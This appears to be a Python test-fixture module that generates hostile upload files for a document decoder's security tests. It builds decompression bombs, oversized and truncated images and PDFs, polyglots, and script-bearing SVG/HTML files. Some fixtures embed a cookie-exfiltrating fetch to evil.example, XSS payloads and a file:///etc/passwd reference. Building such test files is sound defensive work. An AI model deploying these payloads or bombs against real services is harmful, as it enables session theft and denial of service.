"""Hostile, corrupt and tricky files for the decoder's security tests.

Each builder returns bytes; :func:`hostile_files` returns them all as :class:`HostileFile` with
the CONTRACT §1 error codes a safe reader may answer (first = preferred). Everything is small
(< 1 MB) and quick to build, but would cost gigabytes or minutes to a naive reader.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from .canvas import Sample
from .degrade import rotate90, rotate180, rotate270
from .encode import to_jpeg, to_pdf


@dataclass(frozen=True)
class HostileFile:
    """A file a citizen might (maliciously or by mistake) upload.

    ``expected_errors``: acceptable ``{"error": CODE}`` answers, first preferred; empty when the
    file is legitimate and must be read (e.g. an EXIF-rotated photo)."""

    name: str
    filename: str
    data: bytes
    expected_errors: tuple[str, ...]
    note: str


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


@functools.lru_cache(maxsize=4)
def decompression_bomb_png(*, side: int = 40_000, complete: bool = False) -> bytes:
    """A PNG declaring ``side``×``side`` pixels. By default RGB with only a few rows of data
    (tiny file, 4.8 GB if allocated); ``complete=True`` is a 1-bit image whose whole zero-filled
    data is present (50 MB inflated from 50 kB at the default 20 000 side)."""
    sig = b"\x89PNG\r\n\x1a\n"
    if complete:
        ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
        row = b"\x00" * (1 + (side + 7) // 8)
        comp = zlib.compressobj(9)
        parts = [comp.compress(row * 1000) for _ in range(side // 1000)]
        parts.append(comp.compress(row * (side % 1000)))
        parts.append(comp.flush())
        idat = b"".join(parts)
    else:
        ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)  # 8-bit RGB
        idat = zlib.compress(b"\x00" * (1 + 3 * side) * 16, 9)
    return sig + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def huge_dimensions_jpeg() -> bytes:
    """A tiny JPEG whose SOF0 header declares 65 000 × 65 000 pixels."""
    im = Image.new("RGB", (16, 16), (200, 200, 200))
    buf = io.BytesIO()
    im.save(buf, format="JPEG", quality=50)
    data = bytearray(buf.getvalue())
    i = data.find(b"\xff\xc0")
    if i < 0:  # pragma: no cover - PIL writes baseline JPEG
        raise RuntimeError("no SOF0 marker")
    struct.pack_into(">HH", data, i + 5, 65_000, 65_000)
    return bytes(data)


def truncated_jpeg(sample: Sample, *, keep: float = 0.55) -> bytes:
    """A real JPEG of ``sample`` cut after ``keep`` of its bytes (no EOI marker)."""
    data = to_jpeg(sample, quality=85)
    return data[: int(len(data) * keep)]


def truncated_pdf(sample: Sample, *, keep: float = 0.5) -> bytes:
    data = to_pdf(sample, text_layer=False)
    return data[: int(len(data) * keep)]


def zero_byte() -> bytes:
    return b""


def random_bytes(*, seed: int = 0, size: int = 4096) -> bytes:
    return random.Random(seed).randbytes(size)


def _zip_with_html() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("index.html", "<html><body><script>alert(document.cookie)</script></body>")
        z.writestr("payload.sh", "#!/bin/sh\necho pwned\n")
    return buf.getvalue()


def polyglot_pdf_zip(sample: Sample) -> bytes:
    """A valid image-only PDF of ``sample`` with a ZIP archive (HTML + script) appended."""
    return to_pdf(sample) + _zip_with_html()


def polyglot_pdf_html() -> bytes:
    """Starts with a PDF header but is an HTML page with script (and no PDF structure)."""
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        b"<html><head><title>invoice</title></head><body>"
        b"<script>fetch('https://evil.example/'+document.cookie)</script></body></html>\n"
    )


def polyglot_jpeg_zip(sample: Sample) -> bytes:
    """A valid JPEG of ``sample`` with a ZIP archive appended after EOI."""
    return to_jpeg(sample) + _zip_with_html()


def encrypted_pdf(sample: Sample, *, user_password: str = "1234") -> bytes:
    """The sample as a PDF encrypted with AES-256 (``user_password=""`` opens without one but is
    still encrypted)."""
    import pypdf

    reader = pypdf.PdfReader(io.BytesIO(to_pdf(sample)))
    writer = pypdf.PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.encrypt(
        user_password=user_password, owner_password="owner-" + user_password, algorithm="AES-256"
    )
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _raw_pdf(objects: list[bytes]) -> bytes:
    """Serialise numbered objects (1-based) with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


@functools.lru_cache(maxsize=2)
def many_pages_pdf(pages: int = 10_000) -> bytes:
    """A valid PDF of ``pages`` A4 pages sharing one tiny content stream (~0.9 MB)."""
    content = b"0.5 g 72 72 451 698 re f"
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /MediaBox [0 0 595 842] /Kids [%s] >>" % (pages, kids),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]
    page = b"<</Type/Page/Parent 2 0 R/Contents 3 0 R>>"  # MediaBox inherited
    objects.extend([page] * pages)
    return _raw_pdf(objects)


def huge_page_pdf() -> bytes:
    """One page of 14 400 × 14 400 pt (the PDF maximum, 5 m square): 200 dpi would be
    40 000 × 40 000 pixels."""
    content = b"0 g 100 100 1000 1000 re f"
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 3 0 R >>",
        ]
    )


def svg_as_image() -> bytes:
    """An SVG with script and an external reference (uploaded as ``.png``)."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        b'width="1000" height="600"><script>alert(1)</script>'
        b'<image xlink:href="file:///etc/passwd" width="100" height="100"/>'
        b'<text x="10" y="50">\xe5\xb1\x85\xe6\xb0\x91\xe8\xba\xab\xe4\xbb\xbd\xe8\xaf\x81</text>'
        b"</svg>\n"
    )


def html_as_image() -> bytes:
    return (
        b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)>"
        b"<p>\xe5\xb1\x85\xe6\xb0\x91\xe8\xba\xab\xe4\xbb\xbd\xe8\xaf\x81</p></body></html>\n"
    )


def text_as_jpg() -> bytes:
    return "姓名 张三\n公民身份号码 330106198503120016\n这不是图片。\n".encode()


# EXIF orientation → the rotation that was applied to the upright pixels before storing them
# (a viewer undoes it). 6: "rotate 90° CW to display" ⇒ stored turned 90° counter-clockwise.
_STORED_ROTATION = {3: rotate180, 6: rotate270, 8: rotate90}


def exif_rotated_jpeg(sample: Sample, *, orientation: int = 6, quality: int = 92) -> bytes:
    """A JPEG whose pixels are stored rotated with the EXIF orientation tag (3, 6 or 8) that
    turns them upright again: after honouring EXIF the image equals ``sample``, so the golden
    boxes are ``sample.boxes`` unchanged."""
    rot = _STORED_ROTATION.get(orientation)
    if rot is None:
        raise ValueError("orientation must be 3, 6 or 8")
    stored = rot(sample)
    return to_jpeg(stored, quality=quality, exif_orientation=orientation)


def hostile_files(sample: Sample, *, seed: int = 0) -> list[HostileFile]:
    """Every hostile file, built around ``sample`` where a real document is needed."""
    return [
        HostileFile(
            "decompression_bomb_png",
            "scan.png",
            decompression_bomb_png(),
            ("too_large",),
            "40000×40000 RGB declared, a few rows of data",
        ),
        HostileFile(
            "decompression_bomb_png_complete",
            "scan.png",
            decompression_bomb_png(side=20_000, complete=True),
            ("too_large",),
            "20000×20000 1-bit, full zero data",
        ),
        HostileFile(
            "huge_dimensions_jpeg",
            "photo.jpg",
            huge_dimensions_jpeg(),
            ("too_large",),
            "SOF declares 65000×65000",
        ),
        HostileFile(
            "truncated_jpeg",
            "photo.jpg",
            truncated_jpeg(sample),
            ("corrupt_file",),
            "JPEG cut in the middle of the scan data",
        ),
        HostileFile(
            "truncated_pdf",
            "scan.pdf",
            truncated_pdf(sample),
            ("corrupt_file",),
            "PDF cut in half (no xref, no %%EOF)",
        ),
        HostileFile(
            "zero_byte",
            "photo.jpg",
            zero_byte(),
            ("corrupt_file", "unsupported_type"),
            "empty file",
        ),
        HostileFile(
            "random_bytes",
            "photo.jpg",
            random_bytes(seed=seed),
            ("unsupported_type", "corrupt_file"),
            "4 KiB of random bytes",
        ),
        HostileFile(
            "polyglot_pdf_zip",
            "contract.pdf",
            polyglot_pdf_zip(sample),
            ("unsupported_type", "corrupt_file"),
            "valid PDF with a ZIP appended",
        ),
        HostileFile(
            "polyglot_pdf_html",
            "contract.pdf",
            polyglot_pdf_html(),
            ("unsupported_type", "corrupt_file"),
            "PDF header, HTML body",
        ),
        HostileFile(
            "polyglot_jpeg_zip",
            "photo.jpg",
            polyglot_jpeg_zip(sample),
            ("unsupported_type", "corrupt_file"),
            "valid JPEG with a ZIP appended",
        ),
        HostileFile(
            "encrypted_pdf",
            "contract.pdf",
            encrypted_pdf(sample),
            ("encrypted",),
            "AES-256, user password 1234",
        ),
        HostileFile(
            "encrypted_pdf_empty_password",
            "contract.pdf",
            encrypted_pdf(sample, user_password=""),
            ("encrypted",),
            "AES-256, empty user password",
        ),
        HostileFile(
            "many_pages_pdf", "contract.pdf", many_pages_pdf(), ("too_large",), "10 000 pages"
        ),
        HostileFile(
            "huge_page_pdf",
            "contract.pdf",
            huge_page_pdf(),
            ("too_large",),
            "one 14400×14400 pt page",
        ),
        HostileFile(
            "svg_as_png", "photo.png", svg_as_image(), ("unsupported_type",), "SVG with script"
        ),
        HostileFile(
            "html_as_jpg", "photo.jpg", html_as_image(), ("unsupported_type",), "HTML page"
        ),
        HostileFile(
            "text_as_jpg",
            "photo.jpg",
            text_as_jpg(),
            ("unsupported_type",),
            "UTF-8 text renamed .jpg",
        ),
    ]
